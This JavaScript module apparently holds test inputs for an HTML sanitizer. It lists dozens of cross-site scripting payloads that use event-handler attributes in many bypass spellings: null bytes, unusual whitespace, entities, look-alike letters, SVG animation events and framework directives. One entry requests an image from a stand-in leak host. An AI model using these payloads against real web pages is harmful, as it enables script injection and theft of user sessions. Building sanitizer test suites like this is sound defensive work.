/** Event handlers: every kind of element and event, in every spelling that a parser takes. */
import { LEAK, PIXEL, RUN } from './parts.js';

/** @type {Readonly<Record<string, string>>} */
export const HANDLERS = {
  'image that fails': RUN,
  'image that loads': `<img src="${PIXEL}" onload=hacked()>`,
  'odd case': '<ImG sRc=x OnErRoR="hacked()">',
  'null byte in the name of the handler': '<img src=x on\0error=hacked()>',
  'null byte in the name of the element': '<im\0g src=x onerror=hacked()><sv\0g onload=hacked()>',
  'null byte in the value': '<img src=x onerror="hac\0ked()"><img src=x onerror="\0hacked()">',
  'slashes for spaces': '<img/src=x/onerror=hacked()//>a',
  'newlines around everything': '<img\nsrc\n=\nx\nonerror\n=\n"\nhacked()\n"\n>',
  'form feeds': '<img\fsrc=x\fonerror=hacked()\f>',
  'tabs and carriage returns': '<img\tsrc=x\ronerror\t=\r\nhacked()>',
  'vertical tab and no-break space': '<img\x0bsrc=x\x0bonerror=hacked()><img src=x\u00a0onerror=hacked()>',
  'backticks for quotes': '<img src=`x` onerror=`hacked()`><img src=x onerror="`${hacked()}`">',
  'no space between two attributes': `<img src="x"onerror="hacked()"><img src='x'onerror='hacked()'>`,
  'stray quotes': `<img """ src=x onerror=hacked()>"'><p '"'onclick="hacked()">a`,
  'stray equals signs': '<img =src=x src=x onerror=hacked() ==><p ="a" onclick=hacked() =>a</p>',
  'stray lesser-than sign': '<img < src=x onerror=hacked()><<img src=x onerror=hacked()>',
  'entities in the value': '<img src=x onerror="&#104;acked&lpar;&rpar;"><img src=x onerror=&#x68;acked&#40;&#x29;>',
  'entities without an end': '<img src=x onerror="&#0000104acked&#x28&#x00029">',
  'line separators in the value': '<img src=x onerror="\u2028hacked()\u2029"><img src=x onerror="\ufeffhacked()">',
  'letters that look like others':
    '<img src=x οnerror=hacked()><img src=x onerror\u200b=hacked()><ımg src=x onerror=hacked()>',
  'letters that are folded to others':
    '<img \u017frc=x onerror=hacked()><\u017fvg onload=hacked()><lin\u212a onload=hacked()>',
  'graphic that loads': '<svg onload=hacked()></svg><svg><svg onload=hacked()></svg></svg>',
  'graphic that never ends': '<svg/onload=hacked()//<p>a</p>',
  'parts of a graphic':
    '<svg><g onload=hacked()><path onclick=hacked() d="M0 0h9v9z"/></g><set onbegin=hacked() attributeName=x /></svg>',
  'animation in a graphic':
    '<svg><animate onbegin=hacked() onrepeat=hacked() onend=hacked() attributeName=x dur=1s repeatCount=2 /></svg>',
  body: '<body onload=hacked() onpageshow=hacked() onresize=hacked() onhashchange=hacked() onmessage=hacked()><p>a',
  'second body and html':
    '<p>a</p><body onfocus=hacked() onclick=hacked()><html onclick=hacked() onpointermove=hacked()>',
  head: '<head onload=hacked()><title onclick=hacked()>a</title></head>',
  frameset: '<frameset onload=hacked() onpageshow=hacked()><frame onload=hacked()></frameset>',
  'details that toggle': '<details open ontoggle=hacked()><summary onclick=hacked()>a</summary>b</details>',
  'details that toggle before':
    '<details onbeforetoggle=hacked() ontoggle=hacked() open=""><summary>a</summary></details>',
  'focus without a click':
    '<a href="/a" autofocus tabindex=0 onfocus=hacked()>a</a><p tabindex=-1 autofocus onfocusin=hacked()>b</p>',
  'focus of what can be edited': '<div contenteditable autofocus onfocus=hacked() onbeforeinput=hacked()>a</div>',
  'focus of fields':
    '<input autofocus onfocus=hacked()><textarea autofocus onfocus=hacked()></textarea><select autofocus onfocus=hacked()>',
  blur: '<input onblur=hacked() autofocus><input autofocus><details tabindex=1 onfocusout=hacked()></details>',
  'animation by style':
    '<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart=hacked() onanimationend=hacked()>a</b>',
  'animation of the host page':
    '<b style="animation-name:rotation;animation-duration:.01s;animation-iteration-count:2" onanimationiteration=hacked()>a</b>',
  transition:
    '<p style="transition:color 1ms;color:red" ontransitionrun=hacked() ontransitionend=hacked() ontransitioncancel=hacked()>a</p>',
  'old names with prefixes':
    '<p onwebkitanimationstart=hacked() onwebkittransitionend=hacked() onmozfullscreenchange=hacked()>a</p>',
  scrolling:
    '<p onscroll=hacked() onscrollend=hacked() onscrollsnapchange=hacked() style="overflow:scroll;height:1px">a<br>b</p>',
  'becoming visible': '<p oncontentvisibilityautostatechange=hacked() style="content-visibility:auto">a</p>',
  'being found': '<p hidden=until-found onbeforematch=hacked()>a</p>',
  'pointer, mouse and touch':
    '<p onpointerover=hacked() onpointerrawupdate=hacked() onmouseenter=hacked() onmousemove=hacked() ontouchstart=hacked()>a</p>',
  'wheel, drag and drop':
    '<p draggable=true onwheel=hacked() ondragstart=hacked() ondragover=hacked() ondrop=hacked()>a</p>',
  'keys and clipboard':
    '<p tabindex=0 onkeydown=hacked() oncopy=hacked() oncut=hacked() onpaste=hacked() onselectstart=hacked()>a</p>',
  'media that fail':
    '<video onerror=hacked() src=x></video><audio onerror=hacked() src=x></audio><video><source onerror=hacked() src=x></video>',
  'media that begin':
    '<video onloadstart=hacked() oncanplay=hacked() src=x></video><audio onloadstart=hacked() onsuspend=hacked() src=x></audio>',
  subtitles:
    '<video src=x><track default src="data:text/vtt,WEBVTT" onload=hacked() onerror=hacked() oncuechange=hacked()></video>',
  objects: '<object data=x onerror=hacked() onload=hacked()></object><embed src=x onload=hacked() onerror=hacked()>',
  'frame that loads': '<iframe onload=hacked()></iframe><iframe src="about:blank" onload=hacked()></iframe>',
  'scripts, styles and links': `<script src=x onerror=hacked()></script><style onload=hacked()></style><link rel=stylesheet href="data:text/css," onload=hacked()>`,
  marquee: '<marquee onstart=hacked() onfinish=hacked() onbounce=hacked() loop=1 width=0>a</marquee>',
  form: '<form onsubmit=hacked() onreset=hacked() onformdata=hacked() oninvalid=hacked()><input required oninvalid=hacked()><button>a</button></form>',
  'policy that is hurt': '<p onsecuritypolicyviolation=hacked()>a<img src=https://leak.example/media/leak.png></p>',
  slot: '<slot onslotchange=hacked()>a</slot><div onslotchange=hacked()>b</div>',
  'unknown element': '<x-y onclick=hacked() onload=hacked()>a</x-y><blah onclick=hacked()>b</blah>',
  'unknown event': '<p onwhatever=hacked() on=hacked() onon=hacked() on-click=hacked() on:click=hacked()>a</p>',
  'closing tag': '<p>a</p onclick=hacked()></div onload=hacked()><br onclick=hacked()></br onclick=hacked()>',
  'name with a prefix':
    '<svg xlink:onload=hacked() xml:onload=hacked() svg:onload=hacked()><a xlink:onclick=hacked()></a></svg>',
  'every element that may stay': `<h1 onclick=hacked()>a</h1><ul onclick=hacked()><li onclick=hacked()>b</ul><table onclick=hacked()><caption onclick=hacked()>c</caption>
    <colgroup onclick=hacked()><col onclick=hacked()></colgroup><thead onclick=hacked()><tr onclick=hacked()><th onclick=hacked()>d<tbody><tr><td onclick=hacked()>e</table>
    <dl onclick=hacked()><dt onclick=hacked()>f<dd onclick=hacked()>g</dl><ruby onclick=hacked()>h<rt onclick=hacked()>i</ruby><hr onclick=hacked()><wbr onclick=hacked()>`,
  'words of the host page’s own tools': `<p x-data x-init="hacked()" @click="hacked()" v-on:click="hacked()" :href="hacked()" (click)="hacked()" ng-init="hacked()">{{hacked()}}</p>
    <p data-bind="click: hacked()" data-hx-get="${LEAK}" hx-get="${LEAK}" hx-trigger=load hx-on::load="hacked()" _="on load call hacked()">a</p>`,
  'words of the host page’s own script': `<a data-action="hacked" data-remote=true data-method=delete data-url="${LEAK}" class="js-run" id=run>a</a>`,
};
